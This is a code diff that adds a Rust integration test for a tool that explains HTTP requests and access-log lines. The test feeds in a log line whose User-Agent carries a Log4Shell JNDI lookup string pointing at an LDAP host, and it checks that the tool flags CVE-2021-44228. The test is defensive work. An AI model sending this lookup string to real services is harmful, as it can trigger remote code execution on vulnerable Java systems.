@@ -97,6 +97,36 @@ async fn a_body_may_have_lines_that_begin_with_a_space_or_a_tab() -> anyhow::Res
 }
 
 #[tokio::test(flavor = "multi_thread")]
+async fn a_line_of_an_access_log_is_explained_as_the_request_it_tells_of() -> anyhow::Result<()> {
+    let stack = Stack::start().await?;
+    let multipart = "multipart/form-data; boundary=x";
+    let line = "192.0.2.1 - - [28/Nov/2026:01:02:03 +0000] \"GET /?a=1 HTTP/1.1\" 200 5 \"-\" \"${jndi:ldap://192.0.2.1/a}\"";
+    for writing in ["auto", "log"] {
+        let given = form(&[
+            ("request", "", line.as_bytes()),
+            ("as", "", writing.as_bytes()),
+        ]);
+        let page = post(&stack, multipart, "", &given).await?;
+        for part in [
+            "CVE-2021-44228",
+            "as a line of an access log",
+            ">User-Agent<",
+        ] {
+            ensure!(page.text().contains(part), "{part}: {}", page.text());
+        }
+    }
+    let given = form(&[("request", "", b"GET / HTTP/1.1"), ("as", "", b"log")]);
+    let page = post(&stack, multipart, "", &given).await?;
+    ensure!(
+        page.status == 400
+            && page
+                .text()
+                .contains("This is not one line of an access log")
+    );
+    Ok(())
+}
+
+#[tokio::test(flavor = "multi_thread")]
 async fn what_cannot_be_explained_is_said_on_the_form() -> anyhow::Result<()> {
     let stack = Stack::start().await?;
     let multipart = "multipart/form-data; boundary=x";
